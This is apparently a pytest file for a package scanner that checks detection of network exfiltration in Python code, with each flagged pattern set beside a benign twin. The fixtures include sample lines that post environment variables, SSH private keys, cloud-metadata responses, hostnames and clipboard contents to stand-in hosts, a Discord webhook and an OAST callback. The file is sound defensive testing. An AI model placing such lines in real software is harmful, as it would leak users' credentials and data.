"""What is sent over the network, and where: each shape beside an honest twin."""

from __future__ import annotations

import pytest

from affineur.core.findings import Severity
from support.scanning import Scan, signals_of

BLOCK, REVIEW = Severity.BLOCK, Severity.REVIEW
HOOK = "https://discord.com/api/webhooks/123456789012345678/not-a-token-of-anybody"


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        (
            ["import os, requests", "requests.post('https://a.example/', json=dict(os.environ))"],
            [("secrets-sent", BLOCK, 2)],
        ),
        (
            [
                "import requests, pathlib",
                "def f():",
                "    key = (pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()",
                "    requests.post('https://a.example/', data=key)",
            ],
            [("secrets-sent", REVIEW, 4)],
        ),
        (
            [
                "import urllib.request as u",
                "K = u.urlopen('http://169.254.169.254/x').read()",
                "u.urlopen('https://a.example/', data=K)",
            ],
            [("secrets-sent", BLOCK, 3)],
        ),
        (
            [
                "import requests",
                "def f(text):",
                f"    requests.post('{HOOK}', json={{'content': text}})",
            ],
            [("messenger-webhook", REVIEW, 3)],
        ),
        (
            ["import socket", "s = socket.socket()", "s.connect(('93.184.216.34', 4444))"],
            [("raw-address", REVIEW, 3)],
        ),
        (
            [
                "import socket",
                "socket.gethostbyname(socket.gethostname() + '.a.example.invalid')",
            ],
            [("dns-exfiltration", BLOCK, 2)],
        ),
        (
            [
                "import requests, socket",
                "N = socket.gethostname()",
                "requests.get('https://x.oast.fun/?n=' + N)",
            ],
            [("machine-reported", BLOCK, 3)],
        ),
        (
            [
                "import pyperclip, requests",
                "def f():",
                "    requests.post('https://a.example/', data=pyperclip.paste())",
            ],
            [("user-watched", REVIEW, 3)],
        ),
    ],
)
def test_what_leaks_is_found_where_it_leaves(
    scan: Scan, lines: list[str], expected: list[tuple[str, Severity, int]]
) -> None:
    assert signals_of(scan({"spam/__init__.py": "\n".join(lines)})) == expected


@pytest.mark.parametrize(
    "lines",
    [
        ["import os, requests", "requests.post('https://a.example/', json={'u': os.environ['U']})"],
        ["import os, subprocess", "subprocess.run(['make'], env=dict(os.environ))"],
        [
            "import requests",
            "def f(hook, text):",
            "    requests.post(hook, json={'content': text})",
        ],
        ["def f(token):", "    return f'https://api.telegram.org/bot{token}/sendMessage'"],
        ["import socket", "s = socket.socket()", "s.connect(('127.0.0.1', 4444))"],
        ["import socket", "def f(host):", "    return socket.gethostbyname(host)"],
        [
            "import socket",
            "def f():",
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
            "    s.connect(('93.184.216.34', 9))",
        ],
        ["import requests", f"def f():\n    '''Post to {HOOK}.'''\n    requests.get('https://a')"],
    ],
)
def test_honest_use_of_the_network_is_not_flagged(scan: Scan, lines: list[str]) -> None:
    assert signals_of(scan({"spam/__init__.py": "\n".join(lines)})) == []
